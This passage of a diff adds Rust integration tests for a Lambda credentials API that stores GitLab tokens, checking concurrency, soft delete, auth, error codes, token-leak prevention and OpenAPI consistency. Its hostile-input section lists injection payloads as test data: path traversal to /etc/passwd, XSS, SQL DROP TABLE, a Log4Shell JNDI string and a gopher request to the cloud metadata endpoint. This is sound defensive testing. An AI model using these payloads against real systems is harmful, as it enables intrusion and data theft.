+    async fn insert(&self, r: &CredentialRecord) -> Result<(), StoreError> {
+        self.0.insert(r).await
+    }
+    async fn replace(&self, r: &CredentialRecord, expected: u64) -> Result<(), StoreError> {
+        self.1
+            .update_item()
+            .table_name(&self.2)
+            .key("pk", AttributeValue::S(format!("CONN#{}", r.connection_id)))
+            .key("sk", AttributeValue::S(format!("CRED#{}", r.credential_id)))
+            .update_expression("SET version = version + :one")
+            .expression_attribute_values(":one", AttributeValue::N("1".into()))
+            .send()
+            .await
+            .unwrap();
+        self.0.replace(r, expected).await
+    }
+    async fn get(
+        &self,
+        c: &ConnectionId,
+        id: &CredentialId,
+    ) -> Result<Option<CredentialRecord>, StoreError> {
+        self.0.get(c, id).await
+    }
+    async fn list(&self, c: &ConnectionId) -> Result<Vec<CredentialRecord>, StoreError> {
+        self.0.list(c).await
+    }
+}
+
+#[tokio::test]
+async fn a_concurrent_change_is_a_409_and_the_old_token_is_restored() {
+    let env = env().await;
+    let id = create(&env, GOOD).await["id"].as_str().unwrap().to_owned();
+    let racing = CredentialsApi {
+        credentials: Credentials {
+            store: RacingWrites(
+                DynamoCredentialStore::new(env.aws.dynamodb.clone(), env.aws.table("StateTable")),
+                env.aws.dynamodb.clone(),
+                env.aws.table("StateTable").to_owned(),
+            ),
+            vault: SecretsManagerVault::new(env.aws.secrets.clone()),
+            verifier: verifier(NetworkPolicy::AllowPrivate),
+            secret_name_prefix: env.prefix.clone(),
+            default_base_url: env.sim.base_url(),
+        },
+        allow_unauthenticated: false,
+    };
+    let reply = handler(
+        &racing,
+        post(
+            "credentials.update",
+            &json!({"id": id, "secrets": {"api_token": ROTATED}}),
+        ),
+    )
+    .await
+    .unwrap();
+    assert_eq!(reply.status().as_u16(), 409);
+    let body: Value = serde_json::from_slice(reply.body().as_ref()).unwrap();
+    assert_eq!(body["error"], "conflict");
+    let secrets = secrets(&env).await;
+    assert_eq!(secrets.values().next().unwrap().0.as_deref(), Some(GOOD));
+    let (_, info) = send(&env.api, get(&format!("credentials.info/{id}"))).await;
+    assert_eq!(
+        info["credential"]["token_fingerprint"],
+        SecretString::new(GOOD).fingerprint()
+    );
+}
+
+// ---------------------------------------------------------------------------------------------------------------
+// delete
+
+#[tokio::test]
+async fn delete_is_soft_schedules_the_secret_and_hides_the_credential_from_list() {
+    let env = env().await;
+    let id = create(&env, GOOD).await["id"].as_str().unwrap().to_owned();
+    let kept = create(&env, ROTATED).await["id"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    let (status, reply) = send(&env.api, post("credentials.delete", &json!({"id": id}))).await;
+    assert_eq!(status, 200, "{reply}");
+    let deleted_at = reply["credential"]["deleted_at"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+
+    let secrets = secrets(&env).await;
+    assert_eq!(
+        secrets[&format!("{}{CONN}/{id}", env.prefix)],
+        (None, true),
+        "scheduled"
+    );
+    assert!(!secrets[&format!("{}{CONN}/{kept}", env.prefix)].1);
+
+    let (_, list) = send(&env.api, get("credentials.list")).await;
+    let ids: Vec<_> = list["credentials"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|c| c["id"].clone())
+        .collect();
+    assert_eq!(ids, vec![Value::from(kept.clone())]);
+    let (_, list) = send(&env.api, get("credentials.list?include_deleted=true")).await;
+    assert_eq!(list["credentials"].as_array().unwrap().len(), 2);
+
+    let (status, info) = send(&env.api, get(&format!("credentials.info/{id}"))).await;
+    assert_eq!(status, 200);
+    assert_eq!(info["credential"]["deleted_at"], deleted_at.as_str());
+
+    let (status, reply) = send(
+        &env.api,
+        post("credentials.update", &json!({"id": id, "label": "x"})),
+    )
+    .await;
+    assert_eq!(
+        (status, reply["error"].as_str()),
+        (409, Some("credential_deleted"))
+    );
+
+    // Deleting again completes an interrupted delete and changes nothing else.
+    let (status, again) = send(&env.api, post("credentials.delete", &json!({"id": id}))).await;
+    assert_eq!(status, 200);
+    assert_eq!(again["credential"]["deleted_at"], deleted_at.as_str());
+}
+
+// ---------------------------------------------------------------------------------------------------------------
+// routing, auth, bodies
+
+#[tokio::test]
+async fn requests_without_iam_authorisation_are_refused_unless_the_local_run_allows_them() {
+    let mut env = env().await;
+    let mut e = event("list");
+    e["requestContext"]
+        .as_object_mut()
+        .unwrap()
+        .remove("authorizer");
+    let (status, reply) = send(&env.api, into_request(&e)).await;
+    assert_eq!((status, reply["error"].as_str()), (401, Some("not_authed")));
+    let mut jwt = event("list");
+    jwt["requestContext"]["authorizer"] = json!({"jwt": {"claims": {"sub": "x"}, "scopes": null}});
+    let (status, _) = send(&env.api, into_request(&jwt)).await;
+    assert_eq!(status, 401);
+
+    env.api.allow_unauthenticated = true;
+    let (status, reply) = send(&env.api, into_request(&e)).await;
+    assert_eq!(
+        (status, reply["error"].as_str()),
+        (404, Some("connection_not_found"))
+    );
+}
+
+#[tokio::test]
+async fn routes_methods_sizes_and_encodings_get_json_errors() {
+    let env = env().await;
+    let cases: Vec<(Request, u16, &str)> = vec![
+        (
+            request("GET", "/connections/acme-prod/credentials.nope", None, None),
+            404,
+            "unknown_route",
+        ),
+        (
+            request("GET", "/connections/acme-prod", None, None),
+            404,
+            "unknown_route",
+        ),
+        (request("GET", "/", None, None), 404, "unknown_route"),
+        (
+            request(
+                "GET",
+                "/connections/acme-prod/credentials.list/extra",
+                None,
+                None,
+            ),
+            404,
+            "unknown_route",
+        ),
+        (
+            request(
+                "GET",
+                "/connections/acme-prod/credentials.create",
+                None,
+                None,
+            ),
+            405,
+            "method_not_allowed",
+        ),
+        (
+            request(
+                "POST",
+                "/connections/acme-prod/credentials.list",
+                None,
+                None,
+            ),
+            405,
+            "method_not_allowed",
+        ),
+        (
+            request(
+                "DELETE",
+                "/connections/acme-prod/credentials.delete",
+                None,
+                None,
+            ),
+            405,
+            "method_not_allowed",
+        ),
+        (
+            request(
+                "POST",
+                "/connections/acme-prod/credentials.create",
+                Some("application/json"),
+                Some("{\"label\":".into()),
+            ),
+            400,
+            "invalid_json",
+        ),
+        (
+            request(
+                "POST",
+                "/connections/acme-prod/credentials.create",
+                Some("application/json"),
+                Some("[]".into()),
+            ),
+            400,
+            "invalid_json",
+        ),
+        (
+            request(
+                "POST",
+                "/connections/acme-prod/credentials.create",
+                Some("text/plain"),
+                Some("hi".into()),
+            ),
+            415,
+            "unsupported_media_type",
+        ),
+        (
+            request(
+                "POST",
+                "/connections/acme-prod/credentials.create",
+                Some("application/json"),
+                Some(format!("{{\"label\":\"{}\"}}", "x".repeat(70_000))),
+            ),
+            413,
+            "body_too_large",
+        ),
+        (
+            request(
+                "POST",
+                "/connections/acme-prod/credentials.create",
+                Some("application/json"),
+                None,
+            ),
+            400,
+            "missing_token",
+        ),
+    ];
+    for (req, expected, code) in cases {
+        let method = req.method().clone();
+        let path = req.raw_http_path().to_owned();
+        let reply = handler(&env.api, req).await.unwrap();
+        let status = reply.status().as_u16();
+        let allow = reply.headers().get("allow").cloned();
+        let body: Value = serde_json::from_slice(reply.body().as_ref()).unwrap();
+        assert_eq!(
+            (status, body["error"].as_str()),
+            (expected, Some(code)),
+            "{method} {path}: {body}"
+        );
+        assert_eq!(body["ok"], false);
+        if status == 405 {
+            assert!(allow.is_some(), "405 names the allowed method");
+        }
+    }
+    assert_eq!(stored(&env).await, (Vec::new(), BTreeMap::new()));
+}
+
+// ---------------------------------------------------------------------------------------------------------------
+// hostile input
+
+/// Values that are wrong for some field: types, sizes, unicode, injection strings, path tricks.
+fn hostile_values() -> Vec<Value> {
+    vec![
+        Value::Null,
+        json!(true),
+        json!(0),
+        json!(-1),
+        json!(1.5),
+        json!(u64::MAX),
+        json!(""),
+        json!("   "),
+        json!("\u{0}"),
+        json!("ä😀\u{202e}ᚠ𝕏"),
+        json!("\u{feff}glpat"),
+        json!([]),
+        json!([1, "a", null]),
+        json!({}),
+        json!({"nested": {"deeper": [1, 2, {"x": "y"}]}}),
+        json!("../../../etc/passwd"),
+        json!("..%2F..%2Fsecret"),
+        json!("<script>alert(1)</script>"),
+        json!("'; DROP TABLE credentials; --"),
+        json!("${jndi:ldap://203.0.113.9/a}"),
+        json!("gopher://169.254.169.254/latest/meta-data/"),
+        json!("file:///etc/passwd"),
+        json!("2030-13-45"),
+        json!("x".repeat(10_000)),
+        json!("y".repeat(60_000)),
+        json!("-----BEGIN CERTIFICATE-----\ngarbage\n-----END CERTIFICATE-----"),
+        json!("cred_00000000000000000000000000"),
+    ]
+}
+
+/// Bodies that are not what they claim to be.
+fn broken_bodies() -> Vec<(Option<&'static str>, Vec<u8>)> {
+    let json_type = Some("application/json");
+    let form = Some("application/x-www-form-urlencoded");
+    let mut bodies: Vec<(Option<&'static str>, Vec<u8>)> = vec![
+        (json_type, b"{".to_vec()),
+        (json_type, b"}".to_vec()),
+        (json_type, b"{\"label\":}".to_vec()),
+        (json_type, b"{'label':'x'}".to_vec()),
+        (json_type, b"null".to_vec()),
+        (json_type, b"42".to_vec()),
+        (json_type, b"\"string\"".to_vec()),
+        (json_type, b"[{\"secrets\":{}}]".to_vec()),
+        (json_type, b"{\"a\":1,}".to_vec()),
+        (json_type, b"{\"a\":1e999}".to_vec()),
+        (json_type, b"{\"a\":\"\\ud800\"}".to_vec()),
+        (json_type, vec![0xff, 0xfe, 0x00, 0x7b]),
+        (json_type, b"\x00\x00\x00".to_vec()),
+        (json_type, "[".repeat(20_000).into_bytes()),
+        (
+            json_type,
+            format!("{}1{}", "{\"a\":".repeat(5_000), "}".repeat(5_000)).into_bytes(),
+        ),
+        (json_type, vec![b'{'; 70_000]),
+        (
+            json_type,
+            format!("{{\"label\":\"{}\"}}", "z".repeat(66_000)).into_bytes(),
+        ),
+        (
+            json_type,
+            b"{\"secrets\":{\"api_token\":\"a\"},\"secrets\":{\"api_token\":\"b\"}".to_vec(),
+        ),
+        (form, b"%zz=%zz".to_vec()),
+        (form, b"settings[base_url][x]=1".to_vec()),
+        (form, b"secrets=1&secrets[api_token]=x".to_vec()),
+        (form, b"label=a&label=b".to_vec()),
+        (form, b"[]=1".to_vec()),
+        (form, b"secrets[api_token]=a%20b".to_vec()),
+        (form, vec![0xc3, 0x28, b'=', b'1']),
+        (form, b"&&&===".to_vec()),
+        (form, b"secrets%5Bapi_token%5D=".to_vec()),
+        (Some("text/plain"), b"label=x".to_vec()),
+        (Some("application/xml"), b"<a/>".to_vec()),
+        (Some("multipart/form-data; boundary=x"), b"--x--".to_vec()),
+        (Some("application/json; charset=utf-16"), b"{".to_vec()),
+        (Some("\u{0}"), b"{}".to_vec()),
+    ];
+    bodies.push((None, b"not json at all".to_vec()));
+    bodies
+}
+
+/// Paths that try to reach something else.
+fn hostile_paths() -> Vec<String> {
+    let mut paths = vec![
+        "/".to_owned(),
+        "//".to_owned(),
+        "/connections".to_owned(),
+        "/connections/".to_owned(),
+        "/connections//credentials.list".to_owned(),
+        "/connections/acme-prod/".to_owned(),
+        "/connections/acme-prod/credentials.list/".to_owned(),
+        "/connections/acme-prod/../other/credentials.list".to_owned(),
+        "/connections/..%2Facme-prod/credentials.list".to_owned(),
+        "/connections/acme-prod%00/credentials.list".to_owned(),
+        "/connections/acme-prod/credentials.info".to_owned(),
+        "/connections/acme-prod/credentials.info/".to_owned(),
+        "/connections/acme-prod/credentials.info/../../x".to_owned(),
+        "/connections/acme-prod/credentials.info/a/b".to_owned(),
+        "/connections/acme-prod/credentials.info/%2e%2e".to_owned(),
+        "/connections/acme-prod/CREDENTIALS.LIST".to_owned(),
+        "/connections/acme-prod/credentials.list;x=1".to_owned(),
+        "/connections/acme-prod/credentials.list%20".to_owned(),
+        "/connections/ä😀/credentials.list".to_owned(),
+        "/connections/acme prod/credentials.list".to_owned(),
+        "/prod/stage/connections/acme-prod/credentials.list".to_owned(),
+        "/admin".to_owned(),
+        "/connections/acme-prod/credentials.create/extra".to_owned(),
+        format!("/connections/{}/credentials.list", "a".repeat(65)),
+        format!("/connections/acme-prod/credentials.info/{}", "b".repeat(65)),
+        format!("/{}", "c/".repeat(500)),
+    ];
+    paths.push("/connections/acme-prod/credentials.lis?include_deleted=%ff".to_owned());
+    paths
+}
+
+fn set_path(body: &mut Value, field: &str, value: Value) {
+    match field.split_once('.') {
+        None => body[field] = value,
+        Some((outer, inner)) => {
+            if !body[outer].is_object() {
+                body[outer] = json!({});
+            }
+            body[outer][inner] = value;
+        }
+    }
+}
+
+#[tokio::test]
+async fn a_thousand_hostile_requests_get_4xx_json_and_change_nothing() {
+    let env = env().await;
+    let id = create(&env, GOOD).await["id"].as_str().unwrap().to_owned();
+    let before = stored(&env).await;
+    let sim_url = env.sim.base_url();
+
+    let mut requests: Vec<Request> = Vec::new();
+    let fields = [
+        "label",
+        "settings",
+        "settings.base_url",
+        "settings.ca_bundle",
+        "settings.requests_per_minute",
+        "settings.unknown",
+        "secrets",
+        "secrets.api_token",
+        "secrets.other",
+        "expiration_date",
+        "id",
+        "unexpected",
+    ];
+    for value in hostile_values() {
+        for field in fields {
+            // create: otherwise valid, but with an unknown token, so nothing can be stored.
+            let mut body =
+                json!({"settings": {"base_url": sim_url}, "secrets": {"api_token": UNKNOWN}});
+            set_path(&mut body, field, value.clone());
+            requests.push(post("credentials.create", &body));
+            // update of the existing credential, with a token GitLab refuses unless the field is the token.
+            let mut body = json!({"id": id, "secrets": {"api_token": UNKNOWN}});
+            set_path(&mut body, field, value.clone());
+            let keeps_stored_token = field.starts_with("secrets")
+                && field != "secrets.api_token"
+                && (value.is_null() || value == json!({}));
+            if !keeps_stored_token {
+                requests.push(post("credentials.update", &body));
+            }
+            // delete: only an id is accepted, and none of these is the existing one.
+            let mut body = json!({"id": format!("{id}-not")});
+            set_path(&mut body, field, value.clone());
+            requests.push(post("credentials.delete", &body));
+            // the same as a form, for string values
+            if let Value::String(s) = &value {
+                let key = match field.split_once('.') {
+                    Some((outer, inner)) => format!("{outer}[{inner}]"),
+                    None => field.to_owned(),
+                };
+                let form: String = url::form_urlencoded::Serializer::new(String::new())
+                    .append_pair("secrets[api_token]", UNKNOWN)
+                    .append_pair(&key, s)
+                    .finish();
+                requests.push(request(
+                    "POST",
+                    &format!("/connections/{CONN}/credentials.create"),
+                    Some("application/x-www-form-urlencoded"),
+                    Some(form),
+                ));
+            }
+        }
+        // The value as the path's id.
+        if let Value::String(s) = &value {
+            let encoded: String = url::form_urlencoded::byte_serialize(s.as_bytes()).collect();
+            requests.push(
+                get(&format!("credentials.info/{encoded}"))
+                    .with_raw_http_path(format!("/connections/{CONN}/credentials.info/{s}")),
+            );
+        }
+    }
+    for route in [
+        "credentials.create",
+        "credentials.update",
+        "credentials.delete",
+    ] {
+        for (content_type, body) in broken_bodies() {
+            let mut req = request(
+                "POST",
+                &format!("/connections/{CONN}/{route}"),
+                content_type.filter(|c| !c.contains('\u{0}')),
+                None,
+            );
+            if let Some(content_type) = content_type
+                && let Ok(value) =
+                    lambda_http::http::HeaderValue::from_bytes(content_type.as_bytes())
+            {
+                req.headers_mut().insert("content-type", value);
+            }
+            *req.body_mut() = lambda_http::Body::Binary(body);
+            requests.push(req);
+        }
+    }
+    for path in hostile_paths() {
+        for method in ["GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD"] {
+            let base = request(
+                method,
+                "/connections/acme-prod/credentials.list",
+                None,
+                None,
+            );
+            let (raw, query) = path.split_once('?').unwrap_or((&path, ""));
+            let mut req = base.with_raw_http_path(raw);
+            if !query.is_empty() {
+                req = req.with_query_string_parameters(
+                    url::form_urlencoded::parse(query.as_bytes())
+                        .into_owned()
+                        .collect::<std::collections::HashMap<String, String>>(),
+                );
+            }
+            requests.push(req);
+        }
+    }
+    // Unsigned and oddly signed variants of valid requests.
+    for name in ["create", "update", "info", "list", "delete"] {
+        for authorizer in [
+            Value::Null,
+            json!({}),
+            json!({"iam": {}}),
+            json!({"iam": {"userArn": "", "callerId": "", "accessKey": ""}}),
+            json!({"lambda": {"user": "admin"}}),
+            json!({"jwt": {"claims": {"sub": "admin"}, "scopes": ["admin"]}}),
+        ] {
+            let mut e = event(name);
+            if authorizer.is_null() {
+                e["requestContext"]
+                    .as_object_mut()
+                    .unwrap()
+                    .remove("authorizer");
+            } else {
+                e["requestContext"]["authorizer"] = authorizer;
+            }
+            e["rawPath"] = e["rawPath"]
+                .as_str()
+                .unwrap()
+                .replace("acme-prod", CONN)
+                .into();
+            requests.push(into_request(&e));
+        }
+    }
+
+    let total = requests.len();
+    assert!(total >= 1_000, "only {total} hostile requests");
+    let mut by_status: BTreeMap<u16, usize> = BTreeMap::new();
+    for req in requests {
+        let method = req.method().clone();
+        let path = req.raw_http_path().to_owned();
+        let reply = handler(&env.api, req).await.expect("never an error");
+        let status = reply.status().as_u16();
+        *by_status.entry(status).or_default() += 1;
+        let shown: String = path.chars().take(120).collect();
+        assert!((400..500).contains(&status), "{method} {shown}: {status}");
+        let body: Value = serde_json::from_slice(reply.body().as_ref())
+            .unwrap_or_else(|_| panic!("{method} {shown}: reply is not JSON"));
+        assert_eq!(body["ok"], false, "{method} {shown}");
+        assert!(body["error"].is_string() && body["message"].is_string());
+    }
+    assert_eq!(stored(&env).await, before, "no stored data changed");
+    // The mix reached every layer: routing, auth, parsing, field checks and verification.
+    for status in [400, 401, 404, 405, 413, 415] {
+        assert!(
+            by_status.contains_key(&status),
+            "{status} never seen: {by_status:?}"
+        );
+    }
+    println!("{total} hostile requests: {by_status:?}");
+}
+
+// ---------------------------------------------------------------------------------------------------------------
+// token leaks
+
+/// A log sink for a test's own subscriber.
+#[derive(Clone, Default)]
+struct Captured(Arc<Mutex<Vec<u8>>>);
+
+impl std::io::Write for Captured {
+    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
+        self.0.lock().unwrap().extend_from_slice(buf);
+        Ok(buf.len())
+    }
+    fn flush(&mut self) -> std::io::Result<()> {
+        Ok(())
+    }
+}
+
+/// Every log line of this test process (TRACE and up), through a global subscriber installed once. A scoped
+/// subscriber (`set_default`) misses lines when other test threads race it on callsite interest.
+fn captured_logs() -> &'static Captured {
+    static LOGS: std::sync::OnceLock<Captured> = std::sync::OnceLock::new();
+    LOGS.get_or_init(|| {
+        let logs = Captured::default();
+        let sink = logs.clone();
+        let subscriber = tracing_subscriber::fmt()
+            .with_max_level(tracing::Level::TRACE)
+            .with_ansi(false)
+            .with_writer(move || sink.clone())
+            .finish();
+        tracing::subscriber::set_global_default(subscriber)
+            .expect("no other global subscriber in the test binary");
+        logs
+    })
+}
+
+#[tokio::test]
+async fn no_reply_log_line_or_stored_item_contains_a_token() {
+    let logs = captured_logs();
+    let env = env().await;
+    let mut replies: Vec<String> = Vec::new();
+    let mut run = async |req: Request| {
+        let reply = handler(&env.api, req).await.unwrap();
+        replies.push(format!("{:?} {:?}", reply.headers(), reply.body()));
+        serde_json::from_slice::<Value>(reply.body().as_ref()).unwrap()
+    };
+    let created = run(post("credentials.create", &create_body(&env, GOOD))).await;
+    let id = created["credential"]["id"].as_str().unwrap().to_owned();
+    for token in ALL_TOKENS {
+        run(post("credentials.create", &create_body(&env, token))).await;
+        let mut with_error = create_body(&env, token);
+        with_error["settings"]["requests_per_minute"] = json!(*token);
+        run(post("credentials.create", &with_error)).await;
+        with_error["expiration_date"] = json!(*token);
+        run(post("credentials.create", &with_error)).await;
+        run(post(
+            "credentials.update",
+            &json!({"id": id, "secrets": {"api_token": token}, "label": "rotating"}),
+        ))
+        .await;
+        run(post(
+            "credentials.update",
+            &json!({"id": id, "secrets": {"api_token": GOOD}}),
+        ))
+        .await;
+        let form = format!("secrets%5Bapi_token%5D={token}&{token}=1");
+        run(request(
+            "POST",
+            &format!("/connections/{CONN}/credentials.create"),
+            Some("application/x-www-form-urlencoded"),
+            Some(form),
+        ))
+        .await;
+    }
+    env.sim.fail_next("*", 6, Fault::ServerError(502));
+    run(post("credentials.create", &create_body(&env, ROTATED))).await;
+    run(post(
+        "credentials.update",
+        &json!({"id": id, "secrets": {"api_token": ROTATED}}),
+    ))
+    .await;
+    run(get(&format!("credentials.info/{id}"))).await;
+    run(get("credentials.list?include_deleted=true")).await;
+    run(post("credentials.delete", &json!({"id": id}))).await;
+    run(get(&format!("credentials.info/{id}"))).await;
+
+    let logs = String::from_utf8_lossy(&logs.0.lock().unwrap()).into_owned();
+    assert!(
+        logs.contains("request handled"),
+        "the subscriber captured the handler's lines"
+    );
+    assert!(
+        logs.lines().count() > 50,
+        "trace-level lines of the SDK and HTTP clients too"
+    );
+    let table = format!("{:?}", table_items(&env).await);
+    assert!(table.contains(&id), "the scan sees the credential");
+    let replies = replies.join("\n");
+    assert!(replies.contains(&SecretString::new(GOOD).fingerprint()));
+    for token in ALL_TOKENS {
+        assert!(!replies.contains(token), "a reply shows {token}");
+        assert!(!logs.contains(token), "a log line shows {token}");
+        assert!(!table.contains(token), "the table holds {token}");
+    }
+}
+
+// ---------------------------------------------------------------------------------------------------------------
+// the sample events
+
+#[tokio::test]
+async fn every_sample_event_drives_its_route() {
+    let env = env().await;
+    let mut create_event = event("create");
+    let mut body: Value = serde_json::from_str(create_event["body"].as_str().unwrap()).unwrap();
+    body["settings"]["base_url"] = env.sim.base_url().into();
+    body["secrets"]["api_token"] = GOOD.into();
+    create_event["body"] = body.to_string().into();
+    let (status, reply) = send(&env.api, into_request(&create_event)).await;
+    assert_eq!(status, 201, "{reply}");
+    assert_eq!(reply["credential"]["label"], "GitLab.com production");
+    assert_eq!(reply["credential"]["expiration_date"], "2027-06-30");
+    let id = reply["credential"]["id"].as_str().unwrap().to_owned();
+    let sample_id = "cred_0123456789abcdefghjkmnpqrs";
+
+    let mut update = event("update");
+    let mut body: Value = serde_json::from_str(update["body"].as_str().unwrap()).unwrap();
+    body["id"] = id.clone().into();
+    body["secrets"]["api_token"] = ROTATED.into();
+    update["body"] = body.to_string().into();
+    let (status, reply) = send(&env.api, into_request(&update)).await;
+    assert_eq!(status, 200, "{reply}");
+    assert_eq!(
+        reply["credential"]["label"],
+        "GitLab.com production (rotated)"
+    );
+
+    let info = event("info").to_string().replace(sample_id, &id);
+    let (status, reply) = send(
+        &env.api,
+        into_request(&serde_json::from_str(&info).unwrap()),
+    )
+    .await;
+    assert_eq!(
+        (status, reply["credential"]["id"].as_str()),
+        (200, Some(id.as_str()))
+    );
+
+    let (status, reply) = send(&env.api, into_request(&event("list"))).await;
+    assert_eq!(status, 200);
+    assert_eq!(reply["credentials"].as_array().unwrap().len(), 1);
+
+    let delete = event("delete").to_string().replace(sample_id, &id);
+    let (status, reply) = send(
+        &env.api,
+        into_request(&serde_json::from_str(&delete).unwrap()),
+    )
+    .await;
+    assert_eq!(status, 200);
+    assert!(reply["credential"]["deleted_at"].is_string());
+
+    // As shipped (sample ids), the events reach the handler and name a credential that does not exist.
+    for name in ["info", "update", "delete"] {
+        let mut e = event(name);
+        if name == "update" {
+            let mut body: Value = serde_json::from_str(e["body"].as_str().unwrap()).unwrap();
+            body.as_object_mut().unwrap().remove("secrets");
+            e["body"] = body.to_string().into();
+        }
+        let (status, reply) = send(&env.api, into_request(&e)).await;
+        assert_eq!(
+            (status, reply["error"].as_str()),
+            (404, Some("credential_not_found")),
+            "{name}"
+        );
+    }
+}
+
+// ---------------------------------------------------------------------------------------------------------------
+// the OpenAPI description
+
+#[test]
+fn openapi_describes_exactly_the_routes_and_error_codes_the_handler_has() {
+    use serde_yaml_ng::Value as Yaml;
+    use shared::credentials::Route;
+    use shared::credentials::handler::ERROR_CODES;
+
+    let path = format!("{}/../openapi.yaml", env!("CARGO_MANIFEST_DIR"));
+    let doc: Yaml = serde_yaml_ng::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
+    assert!(doc["openapi"].as_str().unwrap().starts_with("3."));
+    let paths = doc["paths"].as_mapping().unwrap();
+
+    let mut expected = std::collections::BTreeSet::new();
+    for (route, name, method, takes_id) in Route::ALL {
+        let key = if takes_id {
+            format!("/connections/{{connection_id}}/{name}/{{id}}")
+        } else {
+            format!("/connections/{{connection_id}}/{name}")
+        };
+        let item = paths
+            .get(Yaml::from(key.as_str()))
+            .unwrap_or_else(|| panic!("openapi.yaml lacks {key}"));
+        let operations: Vec<&str> = item
+            .as_mapping()
+            .unwrap()
+            .keys()
+            .filter_map(Yaml::as_str)
+            .collect();
+        assert_eq!(operations, vec![method.to_ascii_lowercase()], "{key}");
+        let operation = &item[method.to_ascii_lowercase().as_str()];
+        assert_eq!(operation["operationId"].as_str(), Some(name));
+        let success = if route == Route::Create { "201" } else { "200" };
+        assert!(
+            operation["responses"].get(success).is_some(),
+            "{name} documents {success}"
+        );
+        for status in ["401", "404", "405", "503"] {
+            assert!(
+                operation["responses"].get(status).is_some(),
+                "{name} documents {status}"
+            );
+        }
+        expected.insert(key);
+    }
+    let documented: std::collections::BTreeSet<String> = paths
+        .keys()
+        .filter_map(|k| k.as_str().map(str::to_owned))
+        .collect();
+    assert_eq!(documented, expected, "no undocumented or stale paths");
+
+    let codes: Vec<&str> = doc["components"]["schemas"]["Error"]["properties"]["error"]["enum"]
+        .as_sequence()
+        .unwrap()
+        .iter()
+        .filter_map(Yaml::as_str)
+        .collect();
+    let handler_codes: Vec<&str> = ERROR_CODES.iter().map(|(code, _)| *code).collect();
+    assert_eq!(codes, handler_codes);
+    for (code, status) in ERROR_CODES {
+        let status = status.to_string();
+        assert!(
+            paths
+                .values()
+                .flat_map(|item| item.as_mapping().unwrap().values())
+                .any(|operation| operation["responses"].get(status.as_str()).is_some()),
+            "no operation documents {status} ({code})"
+        );
+    }
+}
